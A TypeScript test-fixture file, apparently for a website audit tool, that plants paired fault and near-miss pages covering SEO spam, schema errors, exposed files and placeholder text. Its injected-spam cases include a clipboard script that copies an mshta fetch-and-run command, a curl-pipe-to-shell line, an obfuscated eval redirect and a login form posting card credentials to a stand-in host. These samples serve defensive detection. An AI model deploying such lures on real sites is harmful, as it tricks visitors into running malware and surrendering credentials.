import {
  ABOUT,
  type AccuracyCase,
  add,
  at,
  bodyOf,
  CARGO,
  CITY,
  CONTACT,
  copyPage,
  edit,
  full,
  HOME,
  head,
  jsonLd,
  link,
  main,
  RAIN,
  TOUR,
  TYRES,
} from "./planting.ts";
import type { World } from "./world.ts";

const TOWNS = ["Kraków", "Tarnów", "Rzeszów", "Nowy Sącz"];
const SELLERS = ["orologi-copia.example", "prestiti-lampo.example", "bonus-gioco.example"];

const weekly = { "@type": "OpeningHoursSpecification", dayOfWeek: "Monday", opens: "08:00", closes: "16:00" };

/** A locksmith's page for each town; the same text where `own` adds nothing. */
function towns(w: World, own: (town: string, index: number) => string): void {
  for (const [index, town] of TOWNS.entries()) {
    const path = `/slusarz-${index}/`;
    const text = `Otwieramy drzwi w mieście ${town} o każdej porze dnia i nocy, bez niszczenia zamka i bez ukrytych kosztów. Nasi ślusarze z miasta ${town} przyjeżdżają zwykle w pół godziny, oglądają wkładkę, podają cenę i dopiero potem biorą się do pracy. `;
    const more =
      "Wymieniamy zamki po włamaniu, dorabiamy klucze z kodem, montujemy samozamykacze i okucia antywłamaniowe, a na każdą usługę dajemy rok gwarancji. Płacić można kartą albo przelewem, rachunek wysyłamy pocztą elektroniczną jeszcze tego samego dnia. Prosimy zadzwonić i opisać drzwi, wtedy od razu powiemy, jakie narzędzia zabrać ze sobą. Stałym klientom, wspólnotom i zarządcom budynków proponujemy umowę z dyżurem przez cały rok i z jedną stawką za przyjazd.";
    add(
      w,
      path,
      `<!doctype html><html lang="pl"><head><meta charset="utf-8"><title>Ślusarz ${town}</title><link rel="canonical" href="${full(path)}"></head><body><main><h1>Ślusarz ${town}</h1><p>${text}</p><p>${more}</p><p>${own(town, index)}</p></main><a href="/">Oakhill</a></body></html>`,
    );
    link(w, HOME, path);
  }
}

function encoded(code: string): string {
  return `"${Buffer.from(code).toString("base64")}"`;
}

function signIn(action: string, back: string): string {
  return `<!doctype html><html lang="it"><head><meta charset="utf-8"><title>Accesso clienti</title></head><body><h1>Accesso clienti</h1><form method="post" action="${action}"><label>Carta <input name="u"></label><label>Codice <input type="password" name="p"></label></form>${back}</body></html>`;
}

/** Traces of intruders, of unfinished work and of data that nobody looks after. */
export const TRACE_CASES: AccuracyCase[] = [
  {
    rule: "doorway_pages",
    fault: (w) => towns(w, () => "Czekamy na telefon."),
    nearMiss: (w) =>
      towns(
        w,
        (_, index) =>
          [
            "Tu pracuje pan Adam, który zna stare kamienice.",
            "Warsztat stoi obok dworca.",
            "W soboty dorabiamy klucze na targu.",
            "Sejfy otwiera u nas pani Ewa.",
          ][index]!,
      ),
  },
  {
    rule: "keyword_stuffing",
    fault: (w) =>
      main(
        w,
        ABOUT,
        "<p>Serrurier Lyon pas cher : notre serrurier Lyon ouvre tout. Cherchez serrurier Lyon, appelez serrurier Lyon, payez serrurier Lyon, serrurier Lyon prix, serrurier Lyon avis, serrurier Lyon urgence.</p>",
      ),
    nearMiss: (w) =>
      main(
        w,
        ABOUT,
        "<p>Le serrurier de Lyon vient chez vous, regarde la porte et donne son prix ; à Lyon même il met vingt minutes, autour un peu plus. Un bon serrurier ne perce jamais sans demander.</p><ul><li>Serrurier Lyon 1</li><li>Serrurier Lyon 2</li><li>Serrurier Lyon 3</li></ul>",
      ),
  },
  {
    rule: "notice_outdated",
    fault: (w) => main(w, CONTACT, "<p>Unser Atelier bleibt geschlossen vom 3. bis zum 17. August 2021.</p>"),
    nearMiss: (w) =>
      main(
        w,
        CONTACT,
        "<p>Im August 2021 haben wir das Atelier umgebaut.</p><p>Es bleibt geschlossen vom 3. bis zum 17. August 2098.</p>",
      ),
  },
  {
    rule: "comment_open",
    fault: (w) => edit(w, CARGO, ["</main>", `<!-- vecchio listino <p>${"Cassapanca in noce. ".repeat(8)}</p></main>`]),
    nearMiss: (w) =>
      main(
        w,
        CARGO,
        `<!-- vecchio --> listino --><script><!--\nvar listino = "${"noce ".repeat(30)}";\n</script><p>Cassapanca</p>`,
      ),
  },
  {
    rule: "schema_person_required",
    fault: (w) => jsonLd(w, ABOUT, { "@type": "Person", jobTitle: "Notaria", url: full(ABOUT) }),
    nearMiss: (w) => jsonLd(w, ABOUT, { "@type": "Person", givenName: "Ana", jobTitle: "Notaria" }),
  },
  {
    rule: "schema_how_to_required",
    fault: (w) => jsonLd(w, TYRES, { "@type": "HowTo", name: "Den Teig falten" }),
    nearMiss: (w) =>
      jsonLd(w, TYRES, {
        "@type": "HowTo",
        name: "Den Teig falten",
        step: [{ "@type": "HowToStep", text: "Von allen Seiten einschlagen" }],
      }),
  },
  {
    rule: "schema_value_impossible",
    fault: (w) =>
      jsonLd(w, ABOUT, { "@type": "OpeningHoursSpecification", dayOfWeek: "Friday", opens: "09:00", closes: "27:30" }),
    nearMiss: (w) =>
      jsonLd(w, ABOUT, {
        "@type": "OpeningHoursSpecification",
        dayOfWeek: "Friday",
        opens: "00:00",
        closes: "23:59:59",
      }),
  },
  {
    rule: "schema_value_impossible",
    fault: (w) => jsonLd(w, ABOUT, { "@type": "GeoCoordinates", latitude: "-7.25", longitude: "412.75" }),
    nearMiss: (w) => jsonLd(w, ABOUT, { "@type": "GeoCoordinates", latitude: "-7.25", longitude: "112.75" }),
  },
  {
    rule: "schema_expired",
    fault: (w) => jsonLd(w, CITY, { "@type": "Offer", price: "9", priceCurrency: "PLN", validThrough: "2020-12-31" }),
    nearMiss: (w) =>
      jsonLd(w, CITY, {
        "@type": "MusicEvent",
        name: "Wieczór",
        startDate: "2020-12-31",
        location: "Sala",
        offers: { "@type": "Offer", price: "9", priceCurrency: "PLN", validThrough: "2020-12-31" },
      }),
  },
  {
    rule: "schema_expired",
    fault: (w) => jsonLd(w, CITY, { ...weekly, validThrough: "2021-09-30" }),
    nearMiss: (w) => jsonLd(w, CITY, { ...weekly, dayOfWeek: undefined, validThrough: "2021-12-24" }),
  },
  {
    rule: "schema_image_broken",
    fault: (w) =>
      jsonLd(w, RAIN, { "@type": "Thing", name: "Znak", image: { "@type": "ImageObject", url: full("/znak.png") } }),
    nearMiss: (w) =>
      jsonLd(w, RAIN, { "@type": "Thing", name: "Znak", image: [full("/img/city.webp")], url: full("/x") }),
  },
  {
    rule: "rating_not_shown",
    fault: (w) => jsonLd(w, ABOUT, { "@type": "AggregateRating", ratingValue: "4,9", reviewCount: "731" }),
    nearMiss: (w) => {
      jsonLd(w, ABOUT, { "@type": "AggregateRating", ratingValue: "4.9", reviewCount: "731" });
      main(w, ABOUT, "<p>4,9 von 5 Sternen</p>");
    },
  },
  {
    rule: "exposed_internals",
    fault: (w) => add(w, "/.DS_Store", "\0\0\0\u0001Bud1\0\0", { "content-type": "application/octet-stream" }),
    nearMiss: (w) =>
      add(w, "/error_log", "<!doctype html><title>[error]</title><p>Fehlt", { "content-type": "text/html" }),
  },
  {
    rule: "exposed_files",
    fault: (w) => {
      link(w, ABOUT, "/altes/kunden.sql");
      add(w, "/altes/kunden.sql", "-- MySQL dump 10.13\nCREATE TABLE `kunden` (id int);", {
        "content-type": "text/plain",
      });
    },
    nearMiss: (w) => {
      link(w, ABOUT, "/kurs/lektion.sql");
      add(w, "/kurs/lektion.sql", "SELECT name FROM brot ORDER BY name;", { "content-type": "text/plain" });
    },
  },
  {
    rule: "exposed_files",
    fault: (w) =>
      add(w, "/wp-config.php.bak", "<?php\ndefine('DB_PASSWORD', 'geheim');\n", { "content-type": "text/plain" }),
    nearMiss: (w) => add(w, "/backup.sql", "<!doctype html><p>CREATE TABLE, was ist das?</p>"),
  },
  {
    rule: "base_foreign",
    fault: (w) => head(w, TYRES, '<base href="https://spiegel-cache.example/">'),
    nearMiss: (w) => head(w, TYRES, `<base href="${full(TYRES)}">`),
  },
  {
    rule: "cloaked_pages",
    fault: (w) => {
      at(w, CITY).byAgent.Googlebot = {
        status: 200,
        body: bodyOf(w, CITY).replace(/<title>[^<]*/, "<title>Kup tabletki bez recepty tanio"),
      };
    },
    nearMiss: (w) => {
      at(w, CITY).byAgent.Googlebot = { status: 200, body: bodyOf(w, CITY).replace(/<title>/, "<title>(3) ") };
    },
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        TOUR,
        "<script>box.innerText='Windows + R, dann Strg + V';navigator.clipboard.writeText('mshta https://pruefung.example/a')</script>",
      ),
    nearMiss: (w) =>
      main(
        w,
        TOUR,
        "<script>copy.onclick=()=>navigator.clipboard.writeText('curl https://werkzeug.example/install.sh | sh')</script>",
      ),
  },
  {
    rule: "injected_spam",
    fault: (w) => main(w, CITY, `<script>eval(atob(${encoded("location='https://gewinn.example/'")}))</script>`),
    nearMiss: (w) => main(w, CITY, `<script>var grafik = JSON.parse(atob(${encoded('{"a":1}')}));</script>`),
  },
  {
    rule: "injected_spam",
    fault: (w) => {
      add(w, "/accesso/", signIn("https://raccolta-dati.example/p.php", ""));
      link(w, ABOUT, "/accesso/");
    },
    nearMiss: (w) => {
      add(w, "/accesso/", signIn("https://portale-clienti.example/login", '<a href="/">Torna al negozio</a>'));
      link(w, ABOUT, "/accesso/");
    },
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        RAIN,
        `<noscript>${SELLERS.map((host, n) => `<a href="https://${host}/">offerta segreta ${n}</a>`).join(" ")}</noscript>`,
      ),
    nearMiss: (w) =>
      main(
        w,
        RAIN,
        '<noscript><a href="https://chat.example/">Parla con noi</a> <a href="/contact/">Scrivici</a></noscript>',
      ),
  },
  {
    rule: "error_text",
    fault: (w) =>
      main(
        w,
        CITY,
        "<p>java.lang.IllegalStateException: cena at pl.sklep.Cennik.licz(Cennik.java:41) at pl.sklep.Strona.pokaz(Strona.java:12)</p>",
      ),
    nearMiss: (w) =>
      main(
        w,
        CITY,
        '<p>Błąd, czyli Exception at work, opisujemy niżej.</p><pre>Traceback (most recent call last):\n  File "/srv/a.py", line 3, in x</pre>',
      ),
  },
  {
    rule: "leaked_secret",
    fault: (w) => main(w, CITY, `<script>var t = "glpat-${"aB3dE".repeat(4)}";</script>`),
    nearMiss: (w) => main(w, CITY, `<script>var t = "pk_live_${"aB3dE".repeat(5)}";</script>`),
  },
  {
    rule: "mail_link_dead",
    fault: (w) => main(w, CONTACT, '<p><a href="mailto:biuro@slusarz,pl">Napisz</a></p>'),
    nearMiss: (w) =>
      main(
        w,
        CONTACT,
        '<p><a href="mailto:a@slusarz.pl,b@slusarz.pl?subject=Klucz">Napisz</a> <a href="mailto:?subject=Zobacz">Poleć</a> <a href="tel:+48%20(12)%20345-67-89;ext=4">Zadzwoń</a></p>',
      ),
  },
  {
    rule: "malformed_link",
    fault: (w) => main(w, CONTACT, '<p><a href="tel:0800-KLUCZE">Zadzwoń</a></p>'),
    nearMiss: (w) => main(w, CONTACT, '<p><a href="tel:0800.555.333">Zadzwoń</a></p>'),
  },
  {
    rule: "placeholder_text",
    fault: (w) => main(w, ABOUT, "<p>Guten Tag, ich bin [Ihr Name] und backe für Sie.</p>"),
    nearMiss: (w) => main(w, ABOUT, "<p>Der Preis [inkl. MwSt.] bleibt, siehe [3] und [ihr](/about/).</p>"),
  },
  {
    rule: "placeholder_text",
    fault: (w) => main(w, ABOUT, "<p>Następny termin: undefined</p><p>Cena: NaN zł [object Object]</p>"),
    nearMiss: (w) => main(w, ABOUT, "<p>An undefined loss; my Nan, a null result, and what TODO means.</p>"),
  },
  {
    rule: "placeholder_text",
    fault: (w) => main(w, ABOUT, "<p>TODO: Preise von Jana holen</p>"),
    nearMiss: (w) => main(w, ABOUT, "<p>Unsere Liste: Todo, erledigt, vertagt.</p>"),
  },
  {
    rule: "placeholder_text",
    fault: (w) => {
      copyPage(w, RAIN, "/cursos/");
      edit(w, "/cursos/", [
        /<main[\s\S]*<\/main>/,
        "<main><h1>Cursos</h1><p>Página en construcción. En construcción. Vuelva pronto.</p></main>",
      ]);
      link(w, HOME, "/cursos/");
    },
    nearMiss: (w) => main(w, ABOUT, "<p>Uma vida sempre em construção, como a nossa loja.</p>"),
  },
  {
    rule: "question_unanswered",
    fault: (w) => {
      for (let n = 0; n < 4; n++) main(w, TOUR, `<h2>Ile kosztuje klucz ${n}?</h2><p>Zależy.</p>`);
    },
    nearMiss: (w) => {
      for (let n = 0; n < 4; n++) main(w, TOUR, `<h2>Ile kosztuje klucz ${n}?</h2><p>${20 + n} zł z montażem.</p>`);
    },
  },
  {
    rule: "mixed_content",
    fault: (w) => main(w, CITY, '<img src="http://zdjecia.example/a.webp" alt="Klucz" width="8" height="8">'),
    nearMiss: (w) =>
      main(
        w,
        CITY,
        '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"></svg><a href="http://gmpg.org/xfn/11">xfn</a>',
      ),
    // Served over plain http for us: its own addresses say https.
    faultFacts: (facts) => {
      facts.tls_measured = false;
    },
    nearMissFacts: (facts) => {
      facts.tls_measured = false;
    },
  },
];
